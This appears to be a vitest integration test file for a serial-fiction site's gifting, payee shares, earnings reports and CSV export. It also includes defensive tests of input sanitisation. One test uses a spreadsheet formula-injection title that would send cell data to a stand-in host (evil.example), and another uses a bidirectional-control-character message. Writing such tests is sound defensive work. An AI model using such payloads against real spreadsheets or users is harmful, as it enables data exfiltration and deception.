import { ROUTES, fillPath, type EndpointName } from '@inkwell/contract';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildChapter, buildSeries, buildUser } from '../../../../test/factories';
import { createTestApp, loginAs, TEST_ORIGIN, type TestContext } from '../../../../test/helpers';
import { coinLedger, revenueAllocations, seriesGifts, users } from '../../../db/schema';
import { splitByShares } from './allocations';
import { moveCoins } from '../wallet';

/*
 * Issue 22 §2: gifts, supporters, payees and their shares, and earnings that reconcile to the
 * ledger to the coin. The site's fee is the default 30 %. Debits are stamped by the database's
 * clock (as the ledger always is), so the months here are the real ones.
 */
const monthOf = (moment: Date) => moment.toISOString().slice(0, 7);
const monthBefore = (month: string) => {
  const [year, index] = month.split('-').map(Number) as [number, number];
  return monthOf(new Date(Date.UTC(year, index - 2, 1)));
};
let t: TestContext;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await loginAs(t.app, await buildUser(t.db, { role: 'admin' }));
});
afterAll(async () => {
  await t?.close();
});

async function call(
  name: EndpointName,
  options: { cookie?: string; params?: Record<string, string>; query?: string; body?: unknown } = {},
) {
  const route = ROUTES[name];
  const response = await t.app.inject({
    method: route.method,
    url: fillPath(route.path, options.params) + (options.query ?? ''),
    headers: { origin: TEST_ORIGIN, ...(options.cookie ? { cookie: options.cookie } : {}) },
    ...(options.body !== undefined ? { payload: options.body as object } : {}),
  });
  return {
    status: response.statusCode,
    body: String(response.headers['content-type']).includes('json') ? response.json() : response.body,
  };
}

async function person(coins = 0) {
  const user = await buildUser(t.db);
  if (coins > 0) await moveCoins(t.db, { userId: user.id, delta: coins, kind: 'adjustment', reason: 'For the test' });
  return { user, cookie: await loginAs(t.app, user) };
}

/** The reader's bell as the notifications endpoint says it (in English: the request names no language). */
const bellOf = async (cookie: string) =>
  (await call('notifications', { cookie, query: '?limit=20&offset=0' })).body.data.notifications as { description: string }[];

const setPayees = (seriesId: string, payees: { userId: string; role: string; shareBps: number }[]) =>
  call('adminSeriesPayeesUpdate', { cookie: admin, params: { id: seriesId }, body: payees });

describe('splitting by shares', () => {
  it('gives every coin to someone, never more, the leftovers to the largest remainders', () => {
    const shares = [{ shareBps: 5000 }, { shareBps: 3333 }, { shareBps: 1667 }];
    for (const coins of [0, 1, 7, 10, 99, 1000, 12_345]) {
      const parts = splitByShares(coins, shares);
      expect(parts.reduce((sum, part) => sum + part.coins, 0)).toBe(coins);
      parts.forEach((part) => expect(Math.abs(part.coins - (coins * part.payee.shareBps) / 10_000)).toBeLessThan(1));
    }
    expect(splitByShares(10, shares).map((part) => part.coins)).toEqual([5, 3, 2]);
  });
});

describe('payees, gifts and earnings', () => {
  it('keeps the payees an admin sets, refusing shares that do not add up or users that do not exist', async () => {
    const series = await buildSeries(t);
    const [a, b] = [await buildUser(t.db), await buildUser(t.db)];
    const bad = await setPayees(series.id, [
      { userId: a.id, role: 'author', shareBps: 6000 },
      { userId: b.id, role: 'artist', shareBps: 3000 },
    ]);
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toContain('The shares must add up to 100 %');
    expect((await setPayees(series.id, [{ userId: a.id, role: 'painter', shareBps: 10_000 }])).status).toBe(400);
    const ghost = await setPayees(series.id, [
      { userId: '00000000-0000-4000-8000-000000000000', role: 'author', shareBps: 10_000 },
    ]);
    expect(ghost.status).toBe(404);

    const saved = await setPayees(series.id, [
      { userId: a.id, role: 'author', shareBps: 7000 },
      { userId: b.id, role: 'artist', shareBps: 3000 },
    ]);
    expect(saved.body.data.items).toEqual([
      { userId: a.id, username: a.username, role: 'author', shareBps: 7000 },
      { userId: b.id, username: b.username, role: 'artist', shareBps: 3000 },
    ]);
    expect((await setPayees(series.id, [])).body.data.items).toEqual([]);
  });

  it('takes a gift once, tells the payees, shows the month’s supporters, and refuses a payee’s own series', async () => {
    const series = await buildSeries(t);
    const author = await person(100);
    await setPayees(series.id, [{ userId: author.user.id, role: 'author', shareBps: 10_000 }]);
    const fan = await person(600);
    const shy = await person(100);
    await call('storeSettings', { cookie: shy.cookie, body: { showAsSupporter: false } });

    // The supporters are this month's by the app's clock, the gifts' moments are the database's:
    // the same month, even when this file started in the last seconds of the one before.
    t.clock.set(new Date());
    const sent = await call('seriesGift', {
      cookie: fan.cookie,
      params: { seriesId: series.id },
      body: { amount: 500, message: 'Keep going!' },
    });
    expect(sent.status).toBe(201);
    expect(sent.body.data).toMatchObject({ amount: 500, coins: 100 });
    await call('seriesGift', { cookie: fan.cookie, params: { seriesId: series.id }, body: { amount: 50 } });
    await call('seriesGift', { cookie: shy.cookie, params: { seriesId: series.id }, body: { amount: 100 } });
    expect(
      (await call('seriesGift', { cookie: fan.cookie, params: { seriesId: series.id }, body: { amount: 100 } })).status,
    ).toBe(402);
    expect((await call('seriesGift', { cookie: fan.cookie, params: { seriesId: series.id }, body: { amount: 7 } })).status).toBe(
      400,
    );
    const own = await call('seriesGift', { cookie: author.cookie, params: { seriesId: series.id }, body: { amount: 10 } });
    expect(own.status).toBe(403);

    expect((await bellOf(author.cookie)).map((notice) => notice.description)).toContain(
      `${fan.user.username} sent 500 coins: “Keep going!”`,
    );
    const supporters = (await call('seriesSupporters', { params: { seriesId: series.id } })).body.data;
    expect(supporters).toEqual({
      month: monthOf(t.clock.now()),
      items: [{ username: fan.user.username, avatarUrl: null, coins: 550 }],
    });
    // The fan's ledger says where the coins went; the balance matches it.
    const [fanRow] = await t.db.select({ coins: users.coins }).from(users).where(eq(users.id, fan.user.id));
    const ledger = await t.db.select().from(coinLedger).where(eq(coinLedger.userId, fan.user.id));
    expect(ledger.reduce((sum, row) => sum + row.delta, 0)).toBe(fanRow!.coins);
    expect(ledger.filter((row) => row.kind === 'gift').map((row) => row.delta)).toEqual([-500, -50]);
  });

  it('allocates every unlock, bundle and gift in a series to its payees, and the month reconciles to the ledger', async () => {
    const series = await buildSeries(t, { bundleDiscountPercent: 10 });
    const chapters = [];
    for (let number = 1; number <= 4; number += 1) chapters.push(await buildChapter(t, series.id, { number, price: 33 }));
    const author = await person();
    const artist = await person();
    const translator = await person();
    await setPayees(series.id, [
      { userId: author.user.id, role: 'author', shareBps: 5000 },
      { userId: artist.user.id, role: 'artist', shareBps: 3333 },
      { userId: translator.user.id, role: 'translator', shareBps: 1667 },
    ]);
    const buyer = await person(1000);
    // One unlock (33), then the other three at once: all that is left, 10 % off 99 = 89.
    await call('unlockChapter', { cookie: buyer.cookie, params: { chapterId: chapters[0]!.id } });
    const bundle = await call('unlockChapters', {
      cookie: buyer.cookie,
      params: { seriesId: series.id },
      body: { chapterIds: chapters.slice(1).map((chapter) => chapter.id) },
    });
    expect(bundle.body.data.charged).toBe(89);
    await call('seriesGift', { cookie: buyer.cookie, params: { seriesId: series.id }, body: { amount: 10 } });

    // What the ledger took in this series, month by month, is what its payees share to the coin.
    const debits = await t.db.execute(sql`
      select to_char(l.created_at at time zone 'UTC', 'YYYY-MM') as month, -sum(l.delta)::int as coins
      from coin_ledger l where l.user_id = ${buyer.user.id} and l.kind in ('unlock', 'gift') group by 1 order by 1`);
    const byMonth =
      (debits as unknown as { rows?: { month: string; coins: number }[] }).rows ??
      (debits as unknown as { month: string; coins: number }[]);
    expect(byMonth.reduce((sum, row) => sum + row.coins, 0)).toBe(33 + 89 + 10);
    const month = byMonth.at(-1)!.month;
    const allocated = await t.db.select().from(revenueAllocations).where(eq(revenueAllocations.seriesId, series.id));
    expect(allocated.reduce((sum, row) => sum + row.coins, 0)).toBe(33 + 89 + 10);
    // Each allocation carries its debit's moment.
    const ledger = await t.db.select().from(coinLedger).where(eq(coinLedger.userId, buyer.user.id));
    for (const row of allocated) expect(row.createdAt).toEqual(ledger.find((entry) => entry.id === row.ledgerId)!.createdAt);

    const july = async (who: string) => (await call('myEarnings', { cookie: who, query: `?month=${month}` })).body.data;
    const earnings = await Promise.all([author, artist, translator].map((payee) => july(payee.cookie)));
    const gross = earnings.map((month) => month.items[0].gross);
    expect(gross.reduce((sum: number, coins: number) => sum + coins, 0)).toBe(33 + 89 + 10);
    expect(earnings[0].items[0]).toEqual({
      seriesId: series.id,
      seriesTitle: series.title,
      // Half of 33, 89 and 10, rounded down: the odd coins went to the larger remainders (the others').
      gross: 65,
      fee: 19,
      net: 46,
      bySource: { unlock: 16, bundle: 44, gift: 5 },
    });
    for (const month of earnings) {
      expect(month.feePercent).toBe(30);
      for (const item of month.items) expect(item.net).toBe(item.gross - Math.floor((item.gross * 30) / 100));
    }
    const before = (await call('myEarnings', { cookie: author.cookie, query: `?month=${monthBefore(month)}` })).body.data;
    expect(before).toMatchObject({ items: [], totals: { gross: 0, fee: 0, net: 0 } });
    expect((await call('myEarnings', { cookie: author.cookie, query: '?month=2026-13' })).status).toBe(400);

    const csv = await call('myEarningsCsv', { cookie: author.cookie, query: `?month=${month}` });
    expect(csv.status).toBe(200);
    expect(String(csv.body).trim().split('\n')).toEqual([
      'month,series,unit,unlocks,bundles,gifts,subscriptions,gross,fee (30 %),net',
      `${month},${series.title},coins,16,44,5,,65,19,46`,
      `${month},Total,coins,,,,,65,19,46`,
    ]);
    // A reader who shares in nothing earns nothing.
    expect((await july(buyer.cookie)).items).toEqual([]);
  });
});

describe('who has earnings, as the profile says', () => {
  it('is a payee of some series, or one who was paid a share before leaving it; no other reader', async () => {
    const hasEarnings = async (cookie: string) => (await call('profile', { cookie })).body.data.hasEarnings;
    const series = await buildSeries(t);
    const author = await person();
    const reader = await person(100);
    expect(await hasEarnings(author.cookie)).toBe(false);

    await setPayees(series.id, [{ userId: author.user.id, role: 'author', shareBps: 10_000 }]);
    expect(await hasEarnings(author.cookie)).toBe(true);
    await call('seriesGift', { cookie: reader.cookie, params: { seriesId: series.id }, body: { amount: 10 } });
    await setPayees(series.id, []);
    expect(await hasEarnings(author.cookie)).toBe(true);
    expect(await hasEarnings(reader.cookie)).toBe(false);
  });
});

describe('gift messages', () => {
  it('drops bidirectional controls, so the payees read the message as it was typed', async () => {
    const series = await buildSeries(t);
    const author = await person();
    await setPayees(series.id, [{ userId: author.user.id, role: 'author', shareBps: 10_000 }]);
    const fan = await person(100);
    const sent = await call('seriesGift', {
      cookie: fan.cookie,
      params: { seriesId: series.id },
      body: { amount: 10, message: '\u202Eevol\u202C \u2066and\u2069 \u200Fthanks\u061C' },
    });
    expect(sent.status).toBe(201);
    expect((await bellOf(author.cookie)).map((notice) => notice.description)).toEqual([
      `${fan.user.username} sent 10 coins: “evol and thanks”`,
    ]);
    const [gift] = await t.db.select().from(seriesGifts).where(eq(seriesGifts.id, sent.body.data.giftId));
    expect(gift!.message).toBe('evol and thanks');
  });
});

describe('the earnings spreadsheet', () => {
  it('writes a title a spreadsheet would run as a formula as plain text', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const series = await buildSeries(t, { title });
    const author = await person();
    await setPayees(series.id, [{ userId: author.user.id, role: 'author', shareBps: 10_000 }]);
    const fan = await person(100);
    await call('seriesGift', { cookie: fan.cookie, params: { seriesId: series.id }, body: { amount: 10 } });
    // The ledger stamps the gift with the database's clock: its month is the statement's.
    const [gift] = await t.db.select().from(coinLedger).where(eq(coinLedger.userId, fan.user.id));
    const month = monthOf(gift!.createdAt);

    const csv = await call('myEarningsCsv', { cookie: author.cookie, query: `?month=${month}` });
    expect(String(csv.body).trim().split('\n')).toEqual([
      'month,series,unit,unlocks,bundles,gifts,subscriptions,gross,fee (30 %),net',
      `${month},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",coins,0,0,10,,10,3,7`,
      `${month},Total,coins,,,,,10,3,7`,
    ]);
  });
});

describe('the month of a statement', () => {
  it('answers a month far away with a clear 400, never a server error, as JSON and as CSV', async () => {
    const { cookie } = await person();
    for (const name of ['myEarnings', 'myEarningsCsv'] as const) {
      for (const month of ['9999-12', '9999-01', '1999-12', '0000-01']) {
        const response = await call(name, { cookie, query: `?month=${month}` });
        expect(response.status, `${name} ${month}`).toBe(400);
        expect(response.body.error).toMatchObject({
          code: 'validation_failed',
          fields: { month: 'The month is between 2000-01 and 9998-12' },
        });
      }
      for (const month of ['2000-01', '9998-12'])
        expect((await call(name, { cookie, query: `?month=${month}` })).status).toBe(200);
    }
  });
});
